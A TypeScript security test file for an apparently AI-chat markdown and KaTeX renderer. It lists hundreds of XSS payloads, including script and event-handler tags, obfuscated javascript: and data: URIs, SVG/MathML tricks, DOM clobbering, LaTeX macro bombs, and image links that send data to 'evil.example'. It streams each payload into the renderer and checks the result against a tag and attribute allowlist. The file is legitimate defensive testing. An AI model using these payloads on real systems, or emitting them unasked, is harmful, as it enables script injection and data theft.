import { Renderer } from "../renderer";
import { extras, numbers, split } from "./drive";

const run = "window.pwned=1";
const away = "https://evil.example";

const markup = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script type=module>import "${away}/x.js"</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src=${away}/x.png>`,
  `<img srcset="${away}/x.png 1x">`,
  `<image href=${away}/x.png>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x">`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe src=${away}></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data=${away}/x.swf></object>`,
  `<embed src=${away}/x>`,
  `<applet code=x>`,
  `<frameset onload=${run}>`,
  `<body onload=${run}>`,
  `<body background=${away}/x.png>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button onclick=${run} autofocus>x</button>`,
  `<details open ontoggle=${run}>`,
  `<video src=${away}/v onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<form action=${away}><input name=x><button>go</button></form>`,
  `<isindex action=javascript:${run}>`,
  `<link rel=stylesheet href=${away}/x.css>`,
  `<link rel=prefetch href=${away}/x>`,
  `<link rel=preconnect href=${away}>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<style>*{display:none}</style>`,
  `<style>@import '${away}/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:url(${away}/x)">x</div>`,
  `<div id=composer name=conversation class=message>clobber</div>`,
  `<a id=location href=x>x</a><a id=location name=href>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!DOCTYPE x [<!ENTITY y "z">]>`,
  `</div></article></main></body></html><script>${run}</script>`,
  `</textarea></title></style></script><img src=x onerror=${run}>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<a href="javascript:${run}">x</a>`,
  `<x onclick=${run} tabindex=1 id=x onfocus=${run}>`,
  `<portal src=${away}>`,
  `<dialog open>x</dialog>`,
  '<img src="x` `onerror=' + run + ">",
  `<<script>${run}//<</script>`,
  `<b/onmouseover=${run}>x</b>`,
  `<a\thref\n=\r"javascript:${run}">x</a>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\<img src=x onerror=${run}\\>`,
];

const schemes = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript\u200b:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java&#10;script:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:${encodeURIComponent(run)}`,
  `jav\\ascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:image/png;base64,AAAA`,
  `file:///etc/passwd`,
  `blob:${away}/x`,
  `filesystem:${away}/x`,
  `view-source:${away}`,
  `about:blank`,
  `ftp://evil.example/x`,
  `tel:1`,
  `intent://x#Intent;end`,
  `//evil.example/x`,
  `/\\evil.example`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `http:/evil.example`,
  `https://user:pass@evil.example/`,
  `https://ex\u202eample.com/moc.elpmaxe`,
  `http://[::1`,
  `https://%00`,
  `mailto:x@y.example?body=<script>${run}</script>`,
  `x-javascript:${run}`,
  `livescript:${run}`,
  `mhtml:${away}`,
  `feed:javascript:${run}`,
  `#composer`,
  `?q=x`,
  `/chat/stream?message=x`,
];

const inLinks = schemes.flatMap((address, i) => [
  `[x](${address})`,
  [
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x][r]\n\n[r]: ${address}`,
    `[![x](${address})](${address})`,
    `| [x](${address}) |\n|---|\n| ${address} |`,
    `[^n]\n\n[^n]: [x](${address})`,
  ][i % 7]!,
]);

const formulas = [
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics{${away}/x.png}`,
  `\\includegraphics[height=1em]{${away}/x.png}`,
  `\\htmlStyle{position:fixed;inset:0}{x}`,
  `\\htmlClass{message}{x}`,
  `\\htmlId{composer}{x}`,
  `\\htmlData{action=stop}{x}`,
  `\\style{color:red}{x}`,
  `\\class{message}{x}`,
  `\\cssId{composer}{x}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\def\\x{\\x}\\x`,
  `\\newcommand{\\y}{\\y\\y\\y}\\y`,
  `\\rule{99999em}{99999em}`,
  `\\kern{99999em}x`,
  `\\color{red;background:url(${away})}x`,
  `\\textcolor{url(${away})}{x}`,
  `\\colorbox{javascript:x}{y}`,
  `\\text{<img src=x onerror=${run}>}`,
  `\\unicode{x3c}script\\unicode{x3e}`,
  `\\href{data:text/html,x}{x}`,
  `\\hskip99999em`,
  `\\raisebox{9999em}{x}`,
  `\\begin{matrix}${"&".repeat(300)}\\end{matrix}`,
  `${"{".repeat(500)}x`,
  `${"\\frac{1}{".repeat(60)}x${"}".repeat(60)}`,
  `\\verb|<script>|`,
  `\\char"3C script`,
  `\\tag{<b>}x`,
  `\\sqrt[<svg/onload=${run}>]{x}`,
].map((formula, i) => [`$${formula}$`, `$$${formula}$$`, `\\(${formula}\\)`, `$$\n${formula}\n$$`][i % 4]!);

const structures = [
  "```html\n<script>" + run + "</script>\n```",
  "```javascript\nlet x = `</code></pre><img src=x onerror=" + run + ">`;\n```",
  '```"><img src=x onerror=' + run + ">\nx\n```",
  "```constructor\nx\n```",
  "```__proto__\nx\n```",
  "```js onclick=" + run + " class=x style=x\nx\n```",
  "```xml\n<a onclick='" + run + "'>&#x3c;script></a>\n```",
  "```css\n*{background:url(" + away + ")}\n```",
  "```php\n<?php echo '<script>" + run + "</script>'; ?>\n```",
  "`<img src=x onerror=" + run + ">`",
  "```markdown\n[x](javascript:" + run + ")\n```",
  `| <img src=x onerror=${run}> | b |\n|---|:-:|\n| <svg/onload=${run}> | [x](javascript:${run}) |`,
  `|a|\n|:-" onclick="${run}-:|\n|b|`,
  `1" onclick="${run}. x`,
  `[x](https://a.example "\\" onclick=\\"${run}")`,
  `[x](https://a.example '"><img src=x onerror=${run}>')`,
  `[x](https://a.example/"onmouseover="${run})`,
  `[^"><img src=x onerror=${run}>]`,
  `[^constructor]\n\n[^constructor]: x\n\n[^__proto__]\n\n[^__proto__]: y`,
  "[__proto__]: https://a.example\n\n[__proto__] [constructor] [toString]",
  "[x]: javascript:" + run + "\n\n[x] [x][] ![x]",
  'https://a.example/"><script>' + run + "</script>",
  "https://a.example/`onclick=" + run,
  'a@b.example"><svg/onload=' + run + ">",
  "\u202e](gpj.exe)[txt\u202c",
  "\u2066\u2067\u202ereversed\u2069 [\u202ex](https://a.example)",
  "# <svg/onload=" + run + ">",
  "> <iframe src=" + away + ">\n> - <script>" + run + "</script>",
  "- [x] <input onfocus=" + run + " autofocus>",
  "![<img src=x onerror=" + run + ">](https://a.example/x.png)",
  '![x](https://a.example/x.png "\\" onload=' + run + '")',
  `![${away}](${away}/track.gif?secret)`,
  `[![x](${away}/a.svg)](${away})`,
  "{{constructor.constructor('" + run + "')()}}",
  "${" + run + "}",
  "<%= " + run + " %>",
  "${`${" + run + "}`}",
  "[a](https://a.example)<b onclick=" + run + ">[b](https://b.example)",
];

/** Texts that an attacker might make a model write. */
export const hostile: readonly string[] = [...markup, ...inLinks, ...formulas, ...structures];

const tags = new Set(
  "p h1 h2 h3 h4 h5 h6 ul ol li blockquote hr br div span pre code button table thead tbody tr th td a em strong s sup".split(
    " ",
  ),
);

const attributes: Readonly<Record<string, RegExp>> = {
  dir: /^(?:auto|ltr)$/,
  href: /^(?:https?:\/\/|mailto:|#note-a\d+-\d+$)/i,
  rel: /^noopener noreferrer$/,
  target: /^_blank$/,
  start: /^\d+$/,
  tabindex: /^0$/,
  type: /^button$/,
  id: /^note-a\d+-\d+$/,
  title: /^/,
  class: new RegExp(
    "^(?:tight|task|task-mark|table|left|center|right|note|note-number|plain|math|math display" +
      "|code|code-bar|code-part|code-language|quiet|hl-[a-z]+)$",
  ),
  "data-code": /^(?:copy|wrap)$/,
  "aria-label": /^(?:Copy the code|Wrap lines of the code)$/,
  "aria-pressed": /^(?:true|false)$/,
};

/** A formula may contain the elements of the library, but none that are active. */
function inFormula(element: Element): boolean {
  return (
    Boolean(element.closest(".katex, .katex-display")) &&
    /^(?:http:\/\/www\.w3\.org\/(?:1999\/xhtml|2000\/svg|1998\/Math\/MathML))$/.test(element.namespaceURI ?? "") &&
    !["script", "a", "img", "image", "use", "foreignobject", "style", "iframe", "maction", "annotation-xml"].includes(
      element.localName.toLowerCase(),
    ) &&
    [...element.attributes].every(
      ({ name, value }) =>
        !/^(?:on|href|xlink|src|id$|data-|formaction)/i.test(name) && !/javascript:|url\(|position/i.test(value),
    )
  );
}

function forbidden(root: HTMLElement): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    if (inFormula(element)) return [];
    if (!tags.has(element.localName)) return [`<${element.localName}>`];
    return [...element.attributes]
      .filter(({ name, value }) => !attributes[name]?.test(value))
      .map(({ name, value }) => `${element.localName}[${name}=${JSON.stringify(value)}]`);
  });
}

/** Streams each text into the page in pieces as small as tokens. Returns everything that must not be there. */
export function attack(): string[] {
  const place = document.querySelector("#conversation") ?? document.body;
  return hostile.flatMap((text, i) => {
    const root = document.createElement("div");
    root.className = "text markdown";
    place.append(root);
    const renderer = new Renderer(root, extras, `a${i}`);
    const found = new Set<string>();
    for (const piece of split(`Before.\n\n${text}\n\nAfter.`, numbers(i), 4)) {
      renderer.add(piece);
      renderer.update();
      for (const what of forbidden(root)) found.add(what);
    }
    renderer.finish();
    for (const what of forbidden(root)) found.add(what);
    if (!root.textContent.includes("After.") && !text.includes("```")) found.add("What follows was lost");
    root.remove();
    return [...found].map((what) => `${JSON.stringify(text)}: ${what}`);
  });
}
